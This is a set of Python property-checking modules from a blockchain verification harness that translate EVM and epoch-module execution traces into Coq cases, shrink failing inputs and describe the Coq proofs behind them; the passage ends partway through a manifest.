        if bo.get("stray"):
            # logs in the EndBlock response that no proposal of the input explains: the model has no source for them
            end.append('("?stray", [([%s], %s)])' % (_op("ConvCoin", "Ok", len(bo["stray"])), _emit(True, [], bo["stray"])))
        blocks.append("{| ob_begin := [%s]; ob_txs := [%s]; ob_end := [%s]; ob_pubs := %s; ob_bloom_ok := %s |}" % (
            "; ".join(begin), "; ".join(items), "; ".join(end), _nat_list(bo.get("pubs", [])),
            "true" if bo["bloom_ok"] else "false"))
    return "[" + "; ".join(blocks) + "]"


def _gov_logs(bo):
    return any(po["result"] == "passed" and po["logs"] for po in bo.get("gov", []))


def nontrivial(rec):
    for blk, bo in zip(rec["input"], rec["obs"]):
        if _gov_logs(bo):
            return True
        seen_logs = False
        ft_with_logs = False
        eth_after = False
        for op, ob in _split(_ops(blk), bo["ops"]):
            n = len(ob["logs"])
            if op["kind"] not in ("eth", "s2b") and n > 0:
                ft_with_logs = True
            if op["kind"] in ("eth", "s2b") and n > 0 and seen_logs:
                eth_after = True
            if n > 0:
                seen_logs = True
        if ft_with_logs and eth_after:
            return True
    return False


def classify(rec):
    ks = ["blocks=%d" % len(rec["input"])]
    for blk, bo in zip(rec["input"], rec["obs"]):
        for op, ob in zip(_ops(blk), bo["ops"]):
            ks.append("op:" + op["kind"] + ("/inner-revert" if op.get("inner") else "") + ("/revert" if op.get("revert") else "") + ("/fail-" + op["fail"] if op.get("fail") else ""))
            ks.append("code:%s" % ("ok" if ob["code"] == 0 else "rejected"))
            ks.append("logs_per_op=%d" % min(len(ob["logs"]), 5))
        tx_logs = sum(len(ob["logs"]) for ob in bo["ops"])
        for msgs, po in zip(_gov(blk), bo.get("gov", [])):
            ks.append("proposal:%s/msgs=%d" % (po["result"], len(msgs)))
            ks.append("logs_per_proposal=%d" % min(len(po["logs"]), 5))
            for m in msgs:
                ks.append("govmsg:" + m["kind"] + ("/fail" if m.get("fail") else ""))
        if _gov(blk):
            ks.append("block:endblock-logs" + ("+tx-logs" if tx_logs else "-only") if _gov_logs(bo) else "block:proposals-without-logs")
        if bo.get("begin"):
            ks.append("block:beginblock-logs")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    kinds = sorted({op["kind"] for b in rec["input"] for op in _ops(b)} |
                   {"gov:" + m["kind"] for b in rec["input"] for p in _gov(b) for m in p})
    bloom = any((not bo["bloom_ok"]) or bo.get("pubs", [bo["nlogs"]]) != [bo["nlogs"]] for bo in rec.get("obs", []))
    return {"kind": "bloom-not-union" if bloom else "index-collision", "ops": kinds}


def _mk(ops, gov):
    return {"ops": ops, "gov": gov} if gov else ops


def input_size(inp):
    return (sum(len(_ops(b)) for b in inp) * 10 + sum(op.get("k", 0) for b in inp for op in _ops(b)) +
            sum(10 + 5 * len(p) for b in inp for p in _gov(b)))


def shrink_candidates(inp):
    out = []
    # drop a block
    if len(inp) > 1:
        for i in range(len(inp)):
            out.append(inp[:i] + inp[i + 1:])
    for bi, blk in enumerate(inp):
        b, g = _ops(blk), _gov(blk)
        # drop an op
        if len(b) > 1 or (b and g):
            for i in range(len(b)):
                out.append(inp[:bi] + [_mk(b[:i] + b[i + 1:], g)] + inp[bi + 1:])
        # drop a proposal / a message of a proposal
        for i in range(len(g)):
            if len(g) > 1 or b:
                out.append(inp[:bi] + [_mk(b, g[:i] + g[i + 1:])] + inp[bi + 1:])
            for j in range(len(g[i])):
                if len(g[i]) > 1:
                    out.append(inp[:bi] + [_mk(b, g[:i] + [g[i][:j] + g[i][j + 1:]] + g[i + 1:])] + inp[bi + 1:])
        # fewer logs
        for i, op in enumerate(b):
            if op["kind"] == "eth" and op["k"] > 1:
                nop = dict(op, k=op["k"] - 1)
                out.append(inp[:bi] + [_mk(b[:i] + [nop] + b[i + 1:], g)] + inp[bi + 1:])
    return out


def model_search(chk):
    """Sweep the model (with the regenerated facts) over all short op lists inside Coq and return
    the failing ones as harness inputs (replayed on the implementation by check.py)."""
    import os
    wd = os.path.join(chk.BUILD, "run", ID)
    path = os.path.join(wd, "sweep_C19.v")
    open(path, "w").write("""From Coq Require Import String.
From Coq Require Import List Arith Bool. Import ListNotations.
Require Import Nib.C19.Sites Nib.C19.Model Nib.C19.Spec Nib.C19.Proofs Nib.Gen.C19Facts.
Set Printing Width 1000000. Set Printing Depth 1000000.
Definition alphabet : list op := [mkop Eth Ok 1; mkop Eth Ok 2; mkop Eth Revert 1; mkop Create Ok 1; mkop ConvCoin Ok 1].
Fixpoint lists (n : nat) : list (list op) :=
  match n with 0 => [[]] | S m => [] :: flat_map (fun l => map (fun a => a :: l) alphabet) (lists m) end.
Definition code (o : op) : nat :=
  match o_kind o, o_out o, o_k o with
  | Eth, Ok, 1 => 1 | Eth, Ok, _ => 2 | Eth, _, _ => 3 | Create, _, _ => 4 | _, _, _ => 5 end.
Definition bad := Eval vm_compute in
  firstn 8 (map (map code) (filter (fun ops => negb (Pb (snd (run_block current_sites ops)))) (lists 4))).
Print bad.
(* whole blocks: txs + proposals executed by x/gov at end of block, under the regenerated EndBlocker order *)
Definition govs : list (list proposal) := [[[mkop Create Ok 1]]; [[mkop Create Ok 1; mkop ConvCoin Ok 1]]; [[mkop Create Ok 1]; [mkop ConvCoin Ok 1]]].
Definition full_ok (ops : list op) (g : list proposal) : bool :=
  let r := run_full current_sites current_wiring {| b_begin := []; b_txs := ops; b_end := [("gov"%string, g)] |} in
  Pb (r_emits r) && list_eqb (map (@length _) (r_pubs r)) [length (all_logs (r_emits r))].
Definition badfull := Eval vm_compute in
  firstn 6 (flat_map (fun ops => flat_map (fun gi => if full_ok ops (nth gi govs []) then [] else [gi :: map code ops]) (seq 0 3)) (lists 2)).
Print badfull.
""")
    rc, out, _ = chk.coqc(path)
    if rc != 0:
        return []
    import re
    OPS = {1: {"kind": "eth", "k": 1, "revert": False, "fail": "", "sender": 0},
           2: {"kind": "eth", "k": 2, "revert": False, "fail": "", "sender": 0},
           3: {"kind": "eth", "k": 1, "revert": True, "fail": "", "sender": 0},
           4: {"kind": "create", "k": 0, "revert": False, "fail": "", "sender": 0},
           5: {"kind": "convert", "k": 0, "revert": False, "fail": "", "sender": 0}}
    m = re.search(r"bad\s*=\s*(\[.*?\])\s*:", out, re.S)
    body = m.group(1) if m else ""
    res = []
    for grp in re.findall(r"\[([0-9; ]+)\]", body):
        ops = []
        for c in [int(x) for x in grp.split(";") if x.strip()]:
            ops.append(dict(OPS[c]))
        # a convert needs a funtoken: prepend a create in an earlier block
        res.append([[{"kind": "create", "k": 0, "revert": False, "fail": "", "sender": 0}], ops])
    m2 = re.search(r"badfull\s*=\s*(\[.*?\])\s*:", out, re.S)
    govs = [[[{"kind": "create"}]], [[{"kind": "create"}, {"kind": "convert"}]], [[{"kind": "create"}], [{"kind": "convert"}]]]
    if m2:
        for grp in re.findall(r"\[([0-9; ]+)\]", m2.group(1)):
            cs = [int(x) for x in grp.split(";") if x.strip()]
            ops = [OPS[c] for c in cs[1:]]
            gov = [[dict(m, fail=False, sender=0) for m in p] for p in govs[cs[0]]]
            res.append([[dict(OPS[4])], {"ops": ops, "gov": gov}])
    return res

MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems C19_indices_consecutive / C19_bloom_is_union / C19_bloom_union_iff_order / C19_reverted_contribute_nothing / "
                 "C19_failed_proposal_contributes_nothing / C19_every_block_of_a_history: for EVERY block (messages executed in BeginBlock, delivered "
                 "txs, proposals executed by message-executing EndBlockers; any ops, order, multiplicity, any number of blocks) the model of the "
                 "transient index bookkeeping publishes tx indices 0..M-1, log indices 0..N-1 in emission order across all phases, eth logs carrying "
                 "their tx index; and exactly one bloom folding in exactly the logs of the block IF AND ONLY IF the EndBlocker order fact holds "
                 "(x/evm's EndBlocker runs after every EndBlocker that is not known to be inert). The model's parameters — base index each "
                 "updateBlockBloom site passes, AddLog/TxConfig formulas, and the EndBlockers order of app/app_config.go — are re-extracted from /repo "
                 "on every run (Gen/C19Facts.v) and the instantiated theorems C19_current_sites_ok / C19_current_wiring_ok / "
                 "C19_holds_for_current_tree are re-checked; the model is additionally run against real BeginBlock/DeliverTx/EndBlock/Commit traces "
                 "including blocks in which x/gov executes passed proposals carrying FunToken messages, and the proved-sound checker Pobs_b is "
                 "evaluated on those traces."),
        "design_ref": "DESIGN.md §5 C19",
    },
    "level_note": ("Trusted: Coq kernel + vm_compute; the go/ast extractor harness/gen/c19 (textual normal forms of 4 call "
                   "sites + 4 formulas; EndBlockers list resolved to module names, external packages through a table); the table of inert "
                   "EndBlockers in coq/C19/Sites.v; the Go driver's event parsing; log counts of ERC20 deploy/mint are taken from the "
                   "trace. Not modelled: the geth interpreter, the ERC20 contracts, tally / deposits of x/gov (proposals are set up at keeper level). "
                   "All four call sites are driven by the harness, in DeliverTx and in EndBlock. The BeginBlock phase has no driver (no BeginBlocker of the tree can execute messages)."),
    "technique": "Coq proof (induction over op lists / EndBlocker order) over generated call-site and wiring facts + differential correspondence on ABCI traces",
}
