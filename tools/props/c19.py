"""C19 — EVM log and tx indices are unique and gap-free within a block."""
import json

ID = "C19"
GEN = "c19"
HARNESS_TEST = "TestC19"
COQ_MODEL = ["C19/Check.v", "Gen/C19Facts.v"]
COQ_PROOF_DEPS = ["C19/Proofs.v"]
COQ_OBLIG = ["C19/Property.v", "Gen/C19Oblig.v"]
CASES_HEADER = "Require Import Nib.C19.Sites Nib.C19.Model Nib.C19.Spec Nib.C19.Check Nib.Gen.C19Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_sites"
VIOLATES_FN = "violates"
RULE = ("cases = 1-3 consecutive blocks of 1-7 ops (eth tx with 0-4 logs, optionally after an inner call frame that emitted 1-3 logs and reverted / two-message eth tx / revert / ante failure / msg-server failure, "
        "MsgCreateFunToken, MsgConvertCoinToEvm for coin-born and ERC20-born FunTokens, FunToken.sendToBank precompile calls whose logs include mirrored ABCI events) delivered through BeginBlock/DeliverTx/EndBlock/Commit; "
        "non-trivial = some block holds a FunToken op that emitted logs AND an Ethereum tx with logs after another "
        "log-emitting op (the shape in which indices can collide); distinct = distinct input")
ASSUMPTIONS = [
    "number of logs an ERC20 deploy / mint emits is read from the implementation trace (oracle value), not modelled",
    "EventTxLog / EventEthereumTx / EventBlockBloom as parsed from ABCI events are what clients see",
]


def _out(op, ob):
    if op["kind"] == "s2b":
        # precompile call through an Ethereum tx: outcome and log count are read from the trace
        if ob["code"] != 0:
            return "FailMsg"
        return "Ok" if ob["logs"] else "Revert"
    if op["kind"] == "eth":
        if op["fail"] == "nonce":
            return "FailAnte"
        if op["fail"] == "gas":
            return "FailMsg"
        return "Revert" if op["revert"] else "Ok"
    return "Ok" if ob["code"] == 0 else "FailMsg"


def _kind(op, ob):
    return {"eth": "Eth", "s2b": "Eth", "create": "Create", "convert": "ConvCoin", "conv20": "ConvErc20"}[op["kind"]]


def _nat_list(xs):
    return "[" + "; ".join(str(x) for x in xs) + "]"


def _split(ops, obs):
    """A two-message Ethereum tx is two consecutive Eth ops of the model; its observation is split accordingly."""
    for op, ob in zip(ops, obs):
        if op["kind"] != "eth2":
            yield op, ob
            continue
        ok = ob["code"] == 0
        fail = "" if ok else "gas"
        o1 = {"kind": "eth", "k": op["k"], "revert": False, "fail": fail, "sender": op["sender"]}
        o2 = {"kind": "eth", "k": op["k2"], "revert": op["revert"], "fail": fail, "sender": op["sender"]}
        n1 = op["k"] if ok else 0
        b1 = {"code": ob["code"], "txidx": ob["txidx"][:1], "logs": ob["logs"][:n1]}
        b2 = {"code": ob["code"], "txidx": ob["txidx"][1:], "logs": ob["logs"][n1:]}
        yield o1, b1
        yield o2, b2


def to_coq_case(rec):
    blocks = []
    for ops, bo in zip(rec["input"], rec["obs"]):
        items = []
        for op, ob in _split(ops, bo["ops"]):
            k = op["k"] if op["kind"] == "eth" else len(ob["logs"])
            o = "{| o_kind := %s; o_out := %s; o_k := %d |}" % (_kind(op, ob), _out(op, ob), k)
            e = "{| e_ok := %s; e_txidx := %s; e_logs := [%s] |}" % (
                "true" if ob["code"] == 0 else "false", _nat_list(ob["txidx"]),
                "; ".join("(%d, %d)" % (a, b) for a, b in ob["logs"]))
            items.append("(%s, %s)" % (o, e))
        blocks.append("([%s], %s)" % ("; ".join(items), "true" if bo["bloom_ok"] else "false"))
    return "[" + "; ".join(blocks) + "]"


def nontrivial(rec):
    for ops, bo in zip(rec["input"], rec["obs"]):
        seen_logs = False
        ft_with_logs = False
        eth_after = False
        for op, ob in _split(ops, bo["ops"]):
            n = len(ob["logs"])
            if op["kind"] not in ("eth", "s2b") and n > 0:
                ft_with_logs = True
            if op["kind"] in ("eth", "s2b") and n > 0 and seen_logs:
                eth_after = True
            if n > 0:
                seen_logs = True
        if ft_with_logs and eth_after:
            return True
    return False


def classify(rec):
    ks = ["blocks=%d" % len(rec["input"])]
    for ops, bo in zip(rec["input"], rec["obs"]):
        for op, ob in zip(ops, bo["ops"]):
            ks.append("op:" + op["kind"] + ("/inner-revert" if op.get("inner") else "") + ("/revert" if op.get("revert") else "") + ("/fail-" + op["fail"] if op.get("fail") else ""))
            ks.append("code:%s" % ("ok" if ob["code"] == 0 else "rejected"))
            ks.append("logs_per_op=%d" % min(len(ob["logs"]), 5))
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    kinds = sorted({op["kind"] for ops in rec["input"] for op in ops})
    return {"kind": "index-collision", "ops": kinds}


def input_size(inp):
    return sum(len(b) for b in inp) * 10 + sum(op.get("k", 0) for b in inp for op in b)


def shrink_candidates(inp):
    out = []
    # drop a block
    if len(inp) > 1:
        for i in range(len(inp)):
            out.append(inp[:i] + inp[i + 1:])
    # drop an op
    for bi, b in enumerate(inp):
        if len(b) > 1:
            for i in range(len(b)):
                nb = b[:i] + b[i + 1:]
                out.append(inp[:bi] + [nb] + inp[bi + 1:])
    # fewer logs
    for bi, b in enumerate(inp):
        for i, op in enumerate(b):
            if op["kind"] == "eth" and op["k"] > 1:
                nop = dict(op, k=op["k"] - 1)
                out.append(inp[:bi] + [b[:i] + [nop] + b[i + 1:]] + inp[bi + 1:])
    return out


def model_search(chk):
    """Sweep the model (with the regenerated facts) over all short op lists inside Coq and return
    the failing ones as harness inputs (replayed on the implementation by check.py)."""
    import os
    wd = os.path.join(chk.BUILD, "run", ID)
    path = os.path.join(wd, "sweep_C19.v")
    open(path, "w").write("""From Coq Require Import List Arith. Import ListNotations.
Require Import Nib.C19.Sites Nib.C19.Model Nib.C19.Spec Nib.C19.Proofs Nib.Gen.C19Facts.
Set Printing Width 1000000. Set Printing Depth 1000000.
Definition alphabet : list op := [mkop Eth Ok 1; mkop Eth Ok 2; mkop Eth Revert 1; mkop Create Ok 1; mkop ConvCoin Ok 1].
Fixpoint lists (n : nat) : list (list op) :=
  match n with 0 => [[]] | S m => [] :: flat_map (fun l => map (fun a => a :: l) alphabet) (lists m) end.
Definition code (o : op) : nat :=
  match o_kind o, o_out o, o_k o with
  | Eth, Ok, 1 => 1 | Eth, Ok, _ => 2 | Eth, _, _ => 3 | Create, _, _ => 4 | _, _, _ => 5 end.
Definition bad := Eval vm_compute in
  firstn 8 (map (map code) (filter (fun ops => negb (Pb (snd (run_block current_sites ops)))) (lists 4))).
Print bad.
""")
    rc, out, _ = chk.coqc(path)
    if rc != 0:
        return []
    import re
    m = re.search(r"bad\s*=\s*(\[.*\])\s*:", out, re.S)
    if not m:
        return []
    body = m.group(1)
    res = []
    for grp in re.findall(r"\[([0-9; ]+)\]", body):
        ops = []
        for c in [int(x) for x in grp.split(";") if x.strip()]:
            ops.append({1: {"kind": "eth", "k": 1, "revert": False, "fail": "", "sender": 0},
                        2: {"kind": "eth", "k": 2, "revert": False, "fail": "", "sender": 0},
                        3: {"kind": "eth", "k": 1, "revert": True, "fail": "", "sender": 0},
                        4: {"kind": "create", "k": 0, "revert": False, "fail": "", "sender": 0},
                        5: {"kind": "convert", "k": 0, "revert": False, "fail": "", "sender": 0}}[c])
        # a convert needs a funtoken: prepend a create in an earlier block
        res.append([[{"kind": "create", "k": 0, "revert": False, "fail": "", "sender": 0}], ops])
    return res

MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems C19_indices_consecutive / C19_bloom_is_union / C19_reverted_contribute_nothing / "
                 "C19_every_block_of_a_history: for EVERY block composition (any ops, order, multiplicity, any number of "
                 "blocks) the model of the transient index bookkeeping publishes tx indices 0..M-1, log indices 0..N-1 in "
                 "emission order, eth logs carrying their tx index, and a bloom folding in exactly the emitted logs. The "
                 "model's call-site parameters (base index each updateBlockBloom site passes, AddLog/TxConfig formulas) are "
                 "re-extracted from /repo on every run (Gen/C19Facts.v) and the instantiated theorem "
                 "C19_holds_for_current_tree is re-checked; the model is additionally run against real "
                 "BeginBlock/DeliverTx/EndBlock/Commit traces and the proved-sound checker Pb is evaluated on those traces."),
        "design_ref": "DESIGN.md §5 C19",
    },
    "level_note": ("Trusted: Coq kernel + vm_compute; the go/ast extractor harness/gen/c19.go (textual normal forms of 4 call "
                   "sites + 4 formulas); the Go driver's event parsing; log counts of ERC20 deploy/mint are taken from the "
                   "trace. Not modelled: the geth interpreter, the ERC20 contracts, all four call sites are driven by the harness."),
    "technique": "Coq proof (induction over op lists) over generated call-site facts + differential correspondence on ABCI traces",
}
