"""C14 — epochs tick once per elapsed duration with hooks in order."""

ID = "C14"
HARNESS_TEST = "TestC14"
GEN = "c14"
COQ_MODEL = ["C14/Check.v", "Gen/C14Facts.v"]
COQ_PROOF_DEPS = ["C14/Proofs.v"]
COQ_OBLIG = ["C14/Property.v", "Gen/C14Oblig.v"]
CASES_HEADER = "Require Import Nib.C14.Model Nib.C14.Spec Nib.C14.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("cases = 1-5 epoch definitions side by side, identifiers drawn from 28 arbitrary strings (plain, leading / trailing / inner "
        "whitespace, tab, newline, no-break space, whitespace-only, upper/lower-case variants, non-ASCII, prefixes of one "
        "another) at genesis and later (zero / past / present / future start time, durations 1ns..1 week, re-imported running "
        "epochs, a third of them with counting started at epoch 0 — their advance 0->1 is an ordinary one with "
        "AfterEpochEnd(id,0); ~20% of cases carry malformed definitions: zero or negative duration, empty or duplicate identifier, "
        "inconsistent counters) followed by 6-22 ops: BeginBlocker at generated times (steps 0, 1ns, d/3, d/2, d-1, d, d+1, 2d, "
        "3..9d+d/3 of a defined duration d; 10% of direct cases also step backwards) and later AddEpochInfo calls; 1 case in 8 "
        "runs through the whole application BeginBlock/EndBlock/Commit with the epochs in the genesis file; in 1 direct case in 3 "
        "the middle one of the three recording receivers panics on a chosen (identifier, epoch 1-4, AfterEpochEnd | "
        "BeforeEpochStart) call, once or twice; "
        "MODULE (RE-)INITIALISATION: 2 direct cases in 5 start the chain through InitGenesis (the opening definitions as one genesis "
        "state via epochs.InitGenesis / the registered AppModule.InitGenesis, or the module's DefaultGenesis via "
        "ModuleManager.RunMigrations with a version map without x/epochs) and 2 cases in 5 re-run InitGenesis in the middle of the "
        "chain on the live store (1 step in 5; via fn / module / migrate; genesis = the default one, the opening one again, or 1-4 "
        "arbitrary definitions half of which re-use a stored — possibly running — identifier, in any order, 1 in 6 with a "
        "duplicated identifier, 1 in 8 empty, malformed definitions as above); "
        "non-trivial = some identifier advanced at least twice (an AfterEpochEnd/BeforeEpochStart pair was delivered) and some "
        "block left a started epoch unchanged; distinct = distinct input")
ASSUMPTIONS = [
    "module re-initialisation is InitGenesis reached through epochs.InitGenesis, AppModule.InitGenesis or RunMigrations (the SDK's "
    "behaviour for a module missing in the version map is exercised, not modelled); DeleteEpochInfo is not an op",
    "epoch numbers and heights do not wrap (uint64 / int64); time.Time arithmetic does not saturate (years 1..2262)",
    "the property predicate is evaluated on traces whose definitions are well formed (not started => epoch 0; started => "
    "StartTime <= CurrentEpochStartTime <= now) and whose block times do not decrease; all other traces are still compared "
    "with the model",
]
TRUSTED = ["the recording EpochHooks in harness/c14 (receivers 0 and 2 around the application's own hooks, receiver 1 panics on a "
           "chosen call); blocks are run on a cache branch that is committed only when BeginBlocker returns"]

ZERO_TIME = -62135596800 * 10 ** 9  # Go's time.Time{} in ns since the Unix epoch


# Big numerals are slow to parse in Coq 8.16 (about 1 ms each): every distinct big number of a case is bound once by a
# `let` in front of the case term and referred to by name.
_tab = {}


def z(n):
    n = int(n)
    if -1000 < n < 1000:
        return "(%d)%%Z" % n
    if n not in _tab:
        _tab[n] = "a%d" % len(_tab)
    return _tab[n]


def _with_lets(term):
    lets = "".join("let %s := (%d)%%Z in " % (name, n) for n, name in sorted(_tab.items(), key=lambda kv: int(kv[1][1:])))
    _tab.clear()
    return "(%s%s)" % (lets, term)


def _ranks(rec):
    names = set()
    for g in rec["input"].get("genesis") or []:
        names.add(g.get("ident", ""))
    if rec["input"].get("fail"):
        names.add(rec["input"]["fail"]["ident"])
    for op in rec["input"]["ops"]:
        if op["op"] == "add":
            names.add(op.get("ident", ""))
        for g in op.get("gen") or []:
            names.add(g.get("ident", ""))
    for o in rec["obs"]["ops"]:
        for g in o.get("gen") or []:
            names.add(g.get("ident", ""))
    for e in rec["obs"]["init"] or []:
        names.add(e["ident"])
        names.add(e.get("key", e["ident"]))
    for o in rec["obs"]["ops"]:
        for e in o.get("infos") or []:
            names.add(e["ident"])
            names.add(e.get("key", e["ident"]))
        for c in o.get("log") or []:
            names.add(c["ident"])
    names.discard("")
    return {n: i for i, n in enumerate(sorted(names, key=lambda s: s.encode()))}


def _info(e, rk):
    # constructor application instead of record syntax: elaborates several times faster
    return ("(Build_einfo %d %s %s %s %s %s %s)"
            % (rk[e["ident"]], z(e["start"]), z(e["dur"]), z(e["cur"]), z(e["cur_start"]), z(e["height"]),
               "true" if e["started"] else "false"))


def _hook(c, rk):
    return "(%d, %s %d %s)" % (c["rec"], "AfterEnd" if c["kind"] == "end" else "BeforeStart", rk[c["ident"]], z(c["n"]))


def _pairs(rec):
    return [(op, o) for op, o in zip(rec["input"]["ops"], rec["obs"]["ops"]) if not o.get("skip")]


def to_coq_case(rec):
    _tab.clear()
    return _with_lets(_to_coq_case(rec))


def _args(op, rk):
    ident = op.get("ident", "")
    st = op.get("start")
    cs = op.get("cur_start")
    return ("(Build_add_args %d %s %s %s %s %s %s %s)" % (
        rk.get(ident, 0), "true" if ident == "" else "false",
        "None" if st is None else "(Some %s)" % z(st), z(op.get("dur", 0)), z(op.get("cur", 0)),
        z(ZERO_TIME if cs is None else cs), z(op.get("height", 0)), "true" if op.get("started") else "false"))


def _gen_of(op, o):
    """the genesis state an init op ran with (via migrate: the module's default genesis as the driver read it)"""
    return (o.get("gen") if op.get("via") == "migrate" else op.get("gen")) or []


def _to_coq_case(rec):
    rk = _ranks(rec)
    items = []
    for op, o in _pairs(rec):
        if op["op"] == "block":
            t = "Block %s %s" % (z(o["t"]), z(o["h"]))
        elif op["op"] == "init":
            t = "Init %s %s %s [%s]" % ("false" if op.get("via") == "fn" else "true", z(o["t"]), z(o["h"]),
                                       "; ".join(_args(g, rk) for g in _gen_of(op, o)))
        else:
            t = "Add %s %s %s" % (z(o["t"]), z(o["h"]), _args(op, rk))
        ob = "(Build_obs %s [%s] [%s] [%s])" % (
            "true" if o["ok"] else "false", "; ".join(_info(e, rk) for e in o["infos"] or []),
            "; ".join(str(rk[e.get("key", e["ident"])]) for e in o["infos"] or []),
            "; ".join(_hook(c, rk) for c in o["log"] or []))
        items.append("(%s, %s)" % (t, ob))
    f = rec["input"].get("fail")
    fail = "(Build_trigger 0 (0)%Z true, 0)"
    if f:
        fail = "(Build_trigger %d %s %s, %d)" % (rk[f["ident"]], z(f["n"]), "true" if f["kind"] == "end" else "false", f["times"])
    return "(Build_case %d %s [%s] [%s])" % (
        rec["obs"]["k"], fail, "; ".join(_info(e, rk) for e in rec["obs"]["init"] or []), "; ".join(items))


def _walk(rec):
    """yield (kind, detail) facts about the observed trace"""
    prev = {e["ident"]: e for e in rec["obs"]["init"] or []}
    last_t = None
    for op, o in _pairs(rec):
        t = o["t"]
        if op["op"] == "add":
            yield ("add-ok" if o["ok"] else "add-rejected", None)
            if op.get("started"):
                yield ("add-running-epoch", None)
                if not op.get("cur") and o["ok"]:
                    yield ("add-running-epoch-at-0", None)
        elif op["op"] == "init":
            gen = _gen_of(op, o)
            ids = [g.get("ident", "") for g in gen]
            yield ("init-via-" + op.get("via", "?"), None)
            yield ("init-on-live-store" if prev else "init-on-empty-store", None)
            running = [i for i in ids if i in prev and prev[i]["started"] and prev[i]["cur"] >= 1]
            if running:
                yield ("init-names-a-running-epoch", None)
            if any(i in prev for i in ids) and any(i and i not in prev for i in ids):
                yield ("init-mixes-stored-and-new-identifiers", None)
            if len(set(ids)) < len(ids):
                yield ("init-duplicate-identifier-in-genesis", None)
            if not gen:
                yield ("init-empty-genesis", None)
            now = {e["ident"] for e in o["infos"] or []}
            added = len(now) - len(prev)
            if added and added < len(gen):
                yield ("init-partly-applied", None)
            if added == len(gen) and gen:
                yield ("init-fully-applied", None)
            if not added and gen:
                yield ("init-nothing-applied", None)
        else:
            if not o["ok"]:
                yield ("block-aborted-by-panicking-hook", None)
            if last_t is not None:
                if t == last_t:
                    yield ("time-equal", None)
                elif t < last_t:
                    yield ("time-decreasing", None)
            ends = [c for c in o["log"] or [] if c["kind"] == "end" and c["rec"] == 0]
            starts = [c for c in o["log"] or [] if c["kind"] == "start" and c["rec"] == 0]
            for c in ends:
                yield ("later-tick", c["ident"])
                if c["n"] == 0:
                    yield ("advance-0-to-1-of-started-epoch", None)
            if len(starts) > len(ends):
                yield ("first-tick", None)
            for e in o["infos"] or []:
                p = prev.get(e["ident"])
                if p is None:
                    continue
                if p["started"] and p["dur"] > 0:
                    end = p["cur_start"] + p["dur"]
                    if t == end:
                        yield ("boundary-exact", None)
                    elif t == end - 1:
                        yield ("boundary-minus-1", None)
                    elif t >= p["cur_start"] + 3 * p["dur"]:
                        yield ("gap>=3-durations", None)
                    if e["cur"] == p["cur"]:
                        yield ("started-no-tick", None)
                if not p["started"] and t < p["start"]:
                    yield ("start-in-future", None)
                if p["dur"] < 0:
                    yield ("negative-duration", None)
        last_t = t
        prev = {e["ident"]: e for e in o["infos"] or []}


def nontrivial(rec):
    later = {}
    idle = False
    for k, d in _walk(rec):
        if k == "later-tick":
            later[d] = later.get(d, 0) + 1
        if k == "started-no-tick":
            idle = True
    return idle and any(v >= 1 for v in later.values())


def _reinit_nontrivial(rec):
    """a module re-initialisation that names a running epoch, followed by a later tick of some identifier"""
    seen = False
    for k, _ in _walk(rec):
        if k == "init-names-a-running-epoch":
            seen = True
        if seen and k == "later-tick":
            return True
    return False


def classify(rec):
    idents = [op.get("ident", "") for op in (rec["input"].get("genesis") or []) + rec["input"]["ops"] if op["op"] == "add"]
    extra = []
    if any(i != i.strip() for i in idents):
        extra.append("identifier-padded")
    if any(i and not i.strip() for i in idents):
        extra.append("identifier-whitespace-only")
    if any(not i.isascii() for i in idents):
        extra.append("identifier-non-ascii")
    fold = [i.strip().lower() for i in idents if i]
    if len(set(fold)) < len(set(i for i in idents if i)):
        extra.append("identifiers-equal-modulo-padding-or-case")
    if any(a != b and b.startswith(a) for a in idents for b in idents if a):
        extra.append("identifier-prefix-of-another")
    ks = extra + ["mode:" + rec["input"]["mode"], "ops=%d" % (len(rec["input"]["ops"]) // 5 * 5)]
    if rec["input"].get("fail"):
        ks.append("failing-receiver:" + rec["input"]["fail"]["kind"])
    seen = set()
    for k, _ in _walk(rec):
        seen.add(k)
    if _reinit_nontrivial(rec):
        seen.add("reinit-of-running-epoch-then-tick")
    return ks + sorted(seen)


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    return {"kind": "epoch-clock", "mode": rec["input"]["mode"], "facts": sorted({k for k, _ in _walk(rec)})}


def shrink_candidates(inp):
    out = []
    ops = inp["ops"]
    for i in range(len(ops)):
        if len(ops) > 1:
            out.append(dict(inp, ops=ops[:i] + ops[i + 1:]))
    gen = inp.get("genesis") or []
    for i in range(len(gen)):
        out.append(dict(inp, genesis=gen[:i] + gen[i + 1:]))
    for j, op in enumerate(ops):
        g = op.get("gen") or []
        for i in range(len(g)):
            out.append(dict(inp, ops=ops[:j] + [dict(op, gen=g[:i] + g[i + 1:])] + ops[j + 1:]))
    if inp.get("fail"):
        out.append(dict(inp, fail=None))
    if inp["mode"] == "abci":
        pass
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over a model of BeginBlocker / shouldEpochStart / AddEpochInfo / MultiEpochHooks: "
                 "C14_every_block_of_every_history — for EVERY sequence of blocks and epoch additions with non-decreasing times "
                 "and well-formed definitions, every block moves each identifier by 0 or 1, by 1 iff (not counting and start "
                 "reached) or (counting and time >= current start + duration), records the block's time/height, and calls for "
                 "that identifier exactly AfterEpochEnd(n) (not on the first tick) then BeforeEpochStart(n+1); "
                 "C14_hooks_exactly_once_in_order / _count — over whole histories with NO assumption on times or counters the "
                 "calls for an identifier are exactly the consecutive pairs between its first and last epoch number, each once; "
                 "C14_monotone, C14_at_most_one_per_block, C14_start_is_block, plus lemmas for equal / decreasing times, long "
                 "stalls and non-positive durations, and two _refuted theorems showing that well-formedness of imported "
                 "counters is necessary; with a failing hook receiver (C14_hook_panic_aborts_block, C14_committed_block_is_complete, "
                 "C14_every_block_of_every_history_with_failing_hook): a panicking hook commits nothing and every committed advance "
                 "delivered AfterEpochEnd(n) once to ALL receivers before BeforeEpochStart(n+1); C14_one_info_per_identifier: identifiers are "
                 "arbitrary strings, no identifier is stored twice and no block creates or loses an info. "
                 "Histories contain MODULE (RE-)INITIALISATION steps (op Init: InitGenesis with any genesis state — default, "
